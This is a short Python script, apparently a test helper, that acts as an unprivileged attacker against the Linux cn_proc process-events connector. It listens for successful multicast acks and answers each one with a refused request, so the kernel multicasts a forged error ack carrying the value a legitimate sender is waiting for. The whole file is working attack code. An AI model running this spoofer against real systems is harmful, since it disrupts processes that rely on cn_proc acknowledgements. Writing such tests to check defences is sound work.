#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""An attacker without privileges, as Linux 6.6 and later allow one: it listens to cn_proc's
group 1 with the all-events filter, so it sees every ack the kernel multicasts, and answers each
successful one (err 0) by sending cn_proc an op it refuses with that ack's value minus one: the
kernel then multicasts an error ack carrying exactly the value the original sender waits for.
Runs until stdin closes; prints how many it replayed."""

import select
import socket
import struct
import sys

NETLINK_CONNECTOR = 11
CN_MSG = struct.Struct('=IIIIHH')
NLMSGHDR = struct.Struct('=IHHII')


def frame(ack, op):
    body = CN_MSG.pack(1, 1, 0, ack, 4, 0) + struct.pack('=I', op)
    return NLMSGHDR.pack(NLMSGHDR.size + len(body), 3, 0, 0, 0) + body


def main():
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, NETLINK_CONNECTOR)
    sock.bind((0, 1))
    sock.sendto(frame(0, 1), (0, 0))            # LISTEN, all events and acks
    print('ready', flush=True)
    replayed = 0
    while not select.select([sys.stdin], [], [], 0)[0]:
        if not select.select([sock], [], [], 0.05)[0]:
            continue
        try:
            data = sock.recv(65536)
        except OSError:
            continue                            # ENOBUFS: we were flooded too
        off = 0
        while off + NLMSGHDR.size + CN_MSG.size + 24 <= len(data):
            nl_len = struct.unpack_from('=I', data, off)[0]
            idx, val, seq, ack, length, _ = CN_MSG.unpack_from(data, off + NLMSGHDR.size)
            body = off + NLMSGHDR.size + CN_MSG.size
            what = struct.unpack_from('=I', data, body)[0]
            err = struct.unpack_from('=I', data, body + 16)[0]
            if (idx, val, what, err) == (1, 1, 0, 0) and ack != 0:
                sock.sendto(frame(ack - 1, 3), (0, 0))
                replayed += 1
            if nl_len < NLMSGHDR.size:
                break
            off += (nl_len + 3) & ~3
    print(f'replayed {replayed}', flush=True)


if __name__ == '__main__':
    main()
